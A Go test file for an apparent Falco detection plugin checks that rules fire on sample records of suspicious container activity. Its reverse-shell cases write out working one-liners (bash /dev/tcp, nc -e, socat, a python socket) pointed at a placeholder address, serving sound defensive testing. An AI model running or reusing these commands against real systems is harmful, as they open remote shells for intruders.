package e2e

import (
	"os"
	"testing"

	"github.com/activityaudit/activityaudit/pkg/field"
	"github.com/activityaudit/activityaudit/pkg/record"
	"github.com/activityaudit/activityaudit/plugin/activityaudit"
	"github.com/activityaudit/activityaudit/plugin/internal/falcoapi"
	"github.com/activityaudit/activityaudit/plugin/internal/storetest"
	"go.yaml.in/yaml/v3"
)

// fireCase is a record and whether a rule must fire on it.
type fireCase struct {
	name string
	r    record.Record
	fire bool
}

func cmd(comm, cmdline string, mod func(*record.Record)) record.Record {
	r := storetest.Command(1)
	r.Comm, r.Cmdline = comm, cmdline
	if mod != nil {
		mod(&r)
	}
	return r
}

func conn(server string, mod func(*record.Record)) record.Record {
	r := storetest.Connection(1)
	r.Session, r.ServerIP = "worker-2:1:2", server
	if mod != nil {
		mod(&r)
	}
	return r
}

func kexec(mod func(*record.Record)) record.Record {
	r := storetest.KubeExec(1)
	r.Command, r.ExecTTY, r.ExecStdin, r.ResponseCode = "bash", true, true, 101
	if mod != nil {
		mod(&r)
	}
	return r
}

var fireCases = map[string][]fireCase{
	"Package management in an exec session": {
		{"apt-get in a session", cmd("apt-get", "apt-get install -y nmap", nil), true},
		{"pip3 in a session", cmd("pip3", "pip3 install requests", nil), true},
		{"apt-get outside a session", cmd("apt-get", "apt-get update", func(r *record.Record) { r.Session = "" }), false},
		{"apt-get in a probe", cmd("apt-get", "apt-get -v", func(r *record.Record) { r.Probe = true }), false},
		{"ls in a session", cmd("ls", "ls -la", nil), false},
	},
	"Outbound connection to a public address from an exec session": {
		{"public IPv4", conn("203.0.113.50", nil), true},
		{"public IPv6", conn("2001:db8::1", nil), true},
		{"172.32 is public", conn("172.32.0.1", nil), true},
		{"RFC 1918 10/8", conn("10.1.2.3", nil), false},
		{"RFC 1918 172.16/12", conn("172.20.0.5", nil), false},
		{"RFC 1918 192.168/16", conn("192.168.1.1", nil), false},
		{"CGNAT", conn("100.100.1.1", nil), false},
		{"unique local IPv6", conn("fd12:3456::1", nil), false},
		{"loopback", conn("127.0.0.1", nil), false},
		{"outside a session", conn("203.0.113.50", func(r *record.Record) { r.Session = "" }), false},
		{"inbound", conn("203.0.113.50", func(r *record.Record) { r.Direction = "in" }), false},
	},
	"Interactive shell exec by a service account": {
		{"bash with a tty", kexec(nil), true},
		{"no command given", kexec(func(r *record.Record) { r.Command = "" }), true},
		{"kubectl's shell wrapper", kexec(func(r *record.Record) { r.Command = "sh -c command -v bash >/dev/null && exec bash || exec sh" }), true},
		{"a person", kexec(func(r *record.Record) { r.K8sUser = "alice@example.com" }), false},
		{"denied", kexec(func(r *record.Record) { r.ResponseCode = 403 }), false},
		{"no stdin, no tty", kexec(func(r *record.Record) { r.ExecTTY, r.ExecStdin = false, false }), false},
		{"a one-off command", kexec(func(r *record.Record) { r.Command = "cat /etc/resolv.conf" }), false},
	},
	"Reverse shell pattern": {
		{"bash /dev/tcp", cmd("bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", nil), true},
		{"nc -e", cmd("nc", "nc -e /bin/sh 203.0.113.9 4444", nil), true},
		{"socat exec", cmd("socat", "socat tcp:203.0.113.9:4444 EXEC:/bin/bash,pty", nil), true},
		{"python socket to a shell", cmd("python3", `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.9",4444));subprocess.call(["/bin/sh","-i"])'`, nil), true},
		{"outside a session too", cmd("nc", "nc -e /bin/sh 203.0.113.9 4444", func(r *record.Record) { r.Session = "" }), true},
		{"curl", cmd("curl", "curl -fsSL https://example.com", nil), false},
		{"nc port scan", cmd("nc", "nc -z 10.0.0.1 80", nil), false},
	},
	"Exec into a pod by a user outside the allowed groups": {
		{"a developer", kexec(func(r *record.Record) { r.K8sUser, r.K8sGroups = "bob", "dev,system:authenticated" }), true},
		{"a cluster admin", kexec(func(r *record.Record) { r.K8sUser, r.K8sGroups = "alice", "system:masters,system:authenticated" }), false},
		{"group name that only contains it", kexec(func(r *record.Record) { r.K8sUser, r.K8sGroups = "eve", "not-system:masters-really" }), true},
		{"denied", kexec(func(r *record.Record) { r.K8sUser, r.K8sGroups, r.ResponseCode = "bob", "dev", 403 }), false},
	},
	"Exec into a pod denied": {
		{"403", kexec(func(r *record.Record) { r.ResponseCode = 403 }), true},
		{"401 attach", kexec(func(r *record.Record) { r.ResponseCode, r.Subresource = 401, "attach" }), true},
		{"allowed", kexec(nil), false},
	},
	"Cloud metadata service reached from an exec session": {
		{"IMDS", conn("169.254.169.254", nil), true},
		{"IMDS outside a session", conn("169.254.169.254", func(r *record.Record) { r.Session = "" }), false},
		{"elsewhere", conn("203.0.113.50", nil), false},
	},
}

// Each rule fires on the records it is meant for, and on no other case of
// any rule: the rules' conditions evaluated (condition_test.go) over the
// values the built plugin extracts.
func TestRulesFire(t *testing.T) {
	data, err := os.ReadFile("../rules/activityaudit_rules.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var items []rulesItem
	if err := yaml.Unmarshal(data, &items); err != nil {
		t.Fatal(err)
	}
	rs := &ruleSet{macros: map[string]string{}, lists: map[string][]string{}}
	for _, it := range items {
		if it.Macro != "" {
			rs.macros[it.Macro] = it.Condition
		}
		if it.List != "" {
			rs.lists[it.List] = it.Items
		}
	}
	rules := map[string]cond{}
	used := map[string]bool{}
	for _, it := range items {
		if it.Rule == "" {
			continue
		}
		c, err := rs.compile(it.Condition, used)
		if err != nil {
			t.Fatalf("rule %s: %v", it.Rule, err)
		}
		rules[it.Rule] = c
	}
	for name := range fireCases {
		if rules[name] == nil {
			t.Errorf("cases for %q, which is no rule", name)
		}
	}
	for name := range rules {
		if len(fireCases[name]) == 0 {
			t.Errorf("rule %q has no cases", name)
		}
	}

	p, fields := plugin(t, `{}`)
	x := p.NewExtractor("activityaudit", fields)
	defer x.Free()
	num := uint64(0)
	valuesOf := func(r record.Record) map[string]string {
		num++
		e := falcoapi.NewEvent(999, uint64(r.Time), activityaudit.AppendPayload(nil, &r))
		values, err := x.Extract(e, num)
		if err != nil {
			t.Fatal(err)
		}
		return texts(fields, values)
	}
	for ruleName, cases := range fireCases {
		for _, c := range cases {
			c.r.Time = 1795687512345678901
			v := valuesOf(c.r)
			if got := rules[ruleName](v); got != c.fire {
				t.Errorf("%s on %s: fired %v, want %v", ruleName, c.name, got, c.fire)
			}
			// A case meant to fire fires this rule only.
			if c.fire {
				for other, rc := range rules {
					if other != ruleName && rc(v) && !firesBoth(ruleName, other) {
						t.Errorf("%s also fired on %s (a case of %s)", other, c.name, ruleName)
					}
				}
			}
		}
	}
	for f := range used {
		if _, ok := field.Lookup(f[len("activity."):]); !ok {
			t.Errorf("conditions read %s, not a record field", f)
		}
	}
}

// firesBoth names rules that overlap by design: a service account's shell
// is also an exec outside the allowed groups; a denied exec by a service
// account is only denied.
func firesBoth(a, b string) bool {
	pair := map[[2]string]bool{
		{"Interactive shell exec by a service account", "Exec into a pod by a user outside the allowed groups"}: true,
		{"Exec into a pod by a user outside the allowed groups", "Interactive shell exec by a service account"}: true,
	}
	return pair[[2]string{a, b}]
}
